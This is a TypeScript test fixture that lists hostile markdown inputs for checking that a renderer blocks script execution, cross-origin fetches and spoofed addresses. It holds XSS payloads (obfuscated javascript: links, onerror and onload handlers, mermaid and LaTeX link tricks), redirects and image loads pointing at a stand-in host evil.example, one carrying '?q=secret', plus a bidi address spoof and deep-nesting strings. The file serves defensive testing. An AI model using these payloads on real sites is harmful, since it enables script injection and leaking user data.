/**
 * Markdown that tries to run code, to fetch from other origins, or to show a false address. The last two texts are
 * harmless. Tests wait until the last one is visible.
 */
export const hostileTexts: readonly string[] = [
  '[run](javascript:window.hit=1)',
  '[case](JaVaScRiPt:window.hit=1)',
  '[entity](&#106;avascript:window.hit=1)',
  '[tab](java&Tab;script:window.hit=1)',
  '[data](data:text/html,<script>window.hit=1</script>)',
  '[vb](vbscript:msgbox)',
  '<javascript:window.hit=1>',
  '<script>window.hit=1</script>',
  '<img src=x onerror="window.hit=1">',
  '<svg onload="window.hit=1"><image href="https://evil.example/svg.png"/></svg>',
  '<iframe src="https://evil.example/frame"></iframe>',
  '<object data="https://evil.example/object"></object>',
  '<link rel="stylesheet" href="https://evil.example/style.css"><style>@import "https://evil.example/i.css"</style>',
  '<form action="https://evil.example"><button>Send</button></form>',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<p id="config" name="__proto__" style="background:url(https://evil.example/css.png)">clobber</p>',
  '![inline](https://evil.example/inline.png?q=secret)',
  '![reference][pic]\n\n[pic]: https://evil.example/reference.png "title"',
  '[![linked](https://evil.example/linked.png)](https://evil.example/)',
  '![svg](data:image/svg+xml,<svg onload="window.hit=1"/>)',
  '![//](//evil.example/protocol-relative.png)',
  '<picture><source srcset="https://evil.example/source.png"><img src="https://evil.example/picture.png"></picture>',
  '[spoof \u202Emoc.elpmaxe](https://evil.example/bidi)',
  '```mermaid\ngraph TD; A-->B; click A "javascript:window.hit=1"\n```',
  '```html\n<img src="https://evil.example/code.png">\n```',
  '$\\href{javascript:window.hit=1}{x}$ $\\includegraphics{https://evil.example/math.png}$',
  `${'>'.repeat(300)} deep`,
  '['.repeat(300),
  // Harmless, but some builds of the markdown library parse it with `innerHTML`, which the policy forbids.
  'Fish &amp; chips &copy;',
  'The end of the attack.',
]
